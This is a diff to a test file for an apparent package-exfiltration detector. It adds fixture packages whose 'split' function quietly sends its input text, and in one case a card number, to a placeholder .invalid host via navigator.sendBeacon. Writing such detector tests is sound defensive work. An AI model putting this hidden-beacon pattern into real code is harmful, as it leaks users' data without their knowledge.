@@ -28,9 +28,18 @@ examine(sendsWhatItIsGiven, {
       weight: 'strong',
     },
     {
-      when: 'the host is called like the package',
+      when: 'the host is called like the package, which says nowhere where it comes from',
       files: {
         'package.json': made,
+        'README.md': QUIET,
+        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.words.invalid/', text); return text.split(' '); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the host is called like the package',
+      files: {
+        'package.json': { ...made, repository: 'github:somebody/counts' },
         'README.md': QUIET,
         'index.js': `exports.split = text => { navigator.sendBeacon('https://in.words.invalid/', text); return text.split(' '); };`,
       },
@@ -38,6 +47,14 @@ examine(sendsWhatItIsGiven, {
     },
   ],
   silent: [
+    {
+      when: 'a card goes so, which is told as a card',
+      files: {
+        'package.json': made,
+        'README.md': QUIET,
+        'index.js': `exports.split = cardNumber => { navigator.sendBeacon('https://in.inert.invalid/', cardNumber); return cardNumber.split(' '); };`,
+      },
+    },
     {
       when: 'the answer is read',
       files: {
